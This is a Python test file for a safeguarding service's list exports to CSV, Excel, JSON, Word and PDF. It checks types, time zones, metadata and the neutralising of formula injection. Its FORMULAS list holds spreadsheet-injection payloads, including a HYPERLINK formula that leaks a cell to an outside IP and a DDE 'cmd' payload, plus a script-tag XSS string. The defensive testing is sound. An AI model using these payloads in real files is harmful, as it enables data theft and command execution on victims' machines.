"""What stands in a cell of each format, and that no spreadsheet works out what people wrote."""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from docx import Document
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from openpyxl import load_workbook
from pypdf import PdfReader

from partnership.exports.cells import neutral, settled
from partnership.exports.filled import Sheet
from partnership.exports.formats import Format, write
from partnership.exports.lists import Column, ListExport, offer

pytestmark = pytest.mark.once
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0@SUM(A1)",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
)


def made(rows: list, headings: tuple[str, ...] = ("What",), *, format: str) -> bytes:
    sheet = Sheet(
        code="things",
        title="Things",
        as_at=date(2026, 11, 22),
        made_on=date(2026, 11, 22),
        made_for="Marian Okafor",
        headings=list(headings),
        rows=[[settled(cell) for cell in row] for row in rows],
        total=len(rows),
    )
    out = io.BytesIO()
    write(sheet, format, out)
    return out.getvalue()


def as_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def as_word(body: bytes) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in Document(io.BytesIO(body)).tables[0].rows]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_puts_an_apostrophe_before_what_would_be_worked_out(formula: str):
    cell = as_csv(made([[formula]], format="csv"))[1][0]
    assert cell == f"'{formula}"


@pytest.mark.parametrize("formula", FORMULAS)
def test_excel_holds_it_as_text_with_an_apostrophe(formula: str):
    body = made([[formula]], format="xlsx")
    cell = load_workbook(io.BytesIO(body))["List"]["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.value.replace("_x000D_", "\r").replace("\r", "\n") == f"'{formula}".replace(
        "\r", "\n"
    )
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("formula", FORMULAS)
def test_json_holds_it_as_it_was_written(formula: str):
    rows = json.loads(made([[formula]], format="json"))["rows"]
    assert rows == [{"What": formula}]


@pytest.mark.parametrize("formula", FORMULAS)
def test_word_works_nothing_out_and_holds_it_as_it_was_written(formula: str):
    assert as_word(made([[formula]], format="docx"))[1] == [formula.replace("\r", "\n")]


@pytest.mark.parametrize(
    "words", ["Board = group", "10 - 12 years", "a@example.org", "", "'quoted"]
)
def test_plain_words_are_left_as_they_are(words: str):
    assert neutral(words) == words
    assert as_csv(made([[words]], format="csv"))[1:] in ([[words]], [[]])


def test_figures_and_days_keep_their_type_in_excel_and_json():
    values = [-5, 1.5, Decimal("10.20"), date(2026, 2, 1), True, None]
    headings = tuple("abcdef")
    sheet = load_workbook(io.BytesIO(made([values], headings, format="xlsx")))["List"]
    found = [cell.value for cell in sheet[2]]
    assert found[:3] == [-5, 1.5, 10.2]
    assert found[3] == datetime(2026, 2, 1)
    assert sheet["D2"].number_format == "d mmmm yyyy"
    assert found[4:] == ["Yes", None]
    row = json.loads(made([values], headings, format="json"))["rows"][0]
    assert row == {"a": -5, "b": 1.5, "c": "10.20", "d": "2026-02-01", "e": "Yes", "f": None}
    assert as_csv(made([values], headings, format="csv"))[1] == [
        "-5",
        "1.5",
        "10.20",
        "2026-02-01",
        "Yes",
        "",
    ]


def test_a_moment_is_told_in_local_time():
    summer = datetime(2026, 7, 1, 11, 30, 5, 999, tzinfo=UTC)
    assert settled(summer) == datetime(2026, 7, 1, 12, 30, 5)
    rows = json.loads(made([[summer], [time(9, 30)]], format="json"))["rows"]
    assert [row["What"] for row in rows] == ["2026-07-01T12:30:05", "09:30:00"]
    assert as_word(made([[summer], [time(9, 30)]], format="docx"))[1:] == [
        ["1 July 2026, 12:30"],
        ["09:30"],
    ]
    cell = load_workbook(io.BytesIO(made([[summer]], format="xlsx")))["List"]["A2"]
    assert cell.number_format == "d mmmm yyyy hh:mm"


@pytest.mark.parametrize("format", Format.values)
def test_signs_that_no_file_takes_are_left_out(format: str):
    body = made([["before\x00\x01\x1bafter"]], format=format)
    assert body
    if format == "xlsx":
        assert load_workbook(io.BytesIO(body))["List"]["A2"].value == "beforeafter"
    if format == "docx":
        assert as_word(body)[1] == ["beforeafter"]


@pytest.mark.parametrize("sign", ["\x0b", "\ufffe", "\uffff", "\ud800"])
def test_no_sign_breaks_a_word_document(sign: str):
    body = made([[f"before{sign}after"]], (f"What{sign}",), format="docx")
    assert as_word(body) == [["What"], ["beforeafter"]]


def test_words_with_commas_quotes_and_line_ends_stay_in_their_cell():
    words = 'One, "two"\nthree; <b>four</b> £5 🧒🏽'
    assert as_csv(made([[words, "next"]], ("a", "b"), format="csv"))[1] == [words, "next"]
    words += "\tand a tab; a line\r\nand  another <!--rows-->"
    found = as_word(made([[words, "next"]], ("a", "b"), format="docx"))[1]
    assert found == [words.replace("\r\n", "\n"), "next"]


def test_paper_holds_every_row_and_escapes_what_people_wrote():
    rows = [[f"Row {n} <script>alert(1)</script>"] for n in range(60)]
    pages = PdfReader(io.BytesIO(made(rows, format="pdf"))).pages
    words = " ".join(" ".join(page.extract_text() for page in pages).split())
    assert all(f"Row {n} <script>" in words for n in range(60))
    assert len(pages) > 1


def test_an_empty_list_is_a_file_with_its_headings():
    assert as_csv(made([], ("What", "When"), format="csv")) == [["What", "When"]]
    assert json.loads(made([], format="json"))["rows"] == []
    sheet = load_workbook(io.BytesIO(made([], ("What", "When"), format="xlsx")))["List"]
    assert [cell.value for cell in sheet[1]] == ["What", "When"]
    assert "Nothing stands in this list" in (
        PdfReader(io.BytesIO(made([], format="pdf"))).pages[0].extract_text()
    )

    empty = Document(io.BytesIO(made([], ("What", "When"), format="docx")))
    assert not empty.tables
    assert "Nothing stands in this list." in [line.text for line in empty.paragraphs]


def test_word_says_what_it_is_and_repeats_the_head_of_its_table():
    document = Document(
        io.BytesIO(made([["x", 5], ["y", None]], ("What", "Number"), format="docx"))
    )
    facts = document.core_properties
    assert (facts.title, facts.author) == ("Things", "Safeguarding partnership service")
    assert facts.language == "en-GB"
    assert facts.comments == ""
    assert [lang.get(qn("w:val")) for lang in document.styles.element.iter(qn("w:lang"))] == [
        "en-GB"
    ]
    assert document.paragraphs[0].style.name == "Heading 1"
    assert [line.text for line in document.paragraphs if line.text] == [
        "Things",
        "As at: 22 November 2026",
        "Rows: 2",
        "Made on: 22 November 2026",
        "Made for: Marian Okafor",
    ]
    table = document.tables[0]
    heads = [row._tr.find(qn("w:trPr")).find(qn("w:tblHeader")) is not None for row in table.rows]
    assert heads == [True, False, False]
    assert [cell.text for cell in table.rows[2].cells] == ["y", ""]


@pytest.mark.parametrize(("columns", "lies"), [(5, WD_ORIENT.PORTRAIT), (6, WD_ORIENT.LANDSCAPE)])
def test_word_lays_many_columns_on_a_page_on_its_side(columns: int, lies: WD_ORIENT):
    headings = tuple("abcdefghij")[:columns]
    page = Document(io.BytesIO(made([headings], headings, format="docx"))).sections[0]
    assert page.orientation == lies
    assert (page.page_width or 0) > 0
    assert ((page.page_width or 0) > (page.page_height or 0)) == (lies == WD_ORIENT.LANDSCAPE)


def test_excel_names_no_person_and_no_program_as_its_author():
    book = load_workbook(io.BytesIO(made([["x"]], format="xlsx")))
    assert book.properties.creator == "Safeguarding partnership service"
    assert book.properties.lastModifiedBy is None
    about = {row[0].value: row[1].value for row in book["About"]}
    assert about["Rows"] == 1
    assert about["Made for"] == "Marian Okafor"


def test_a_list_is_offered_once_and_its_headings_differ():
    twice = (Column("A", str, "a"), Column("A", str, "b"))
    with pytest.raises(ValueError, match="stands twice"):
        offer(ListExport("a-new-list", "New", twice, lambda user, params, today: []))
    with pytest.raises(ValueError, match="Two lists"):
        offer(ListExport("people", "People", twice[:1], lambda user, params, today: []))
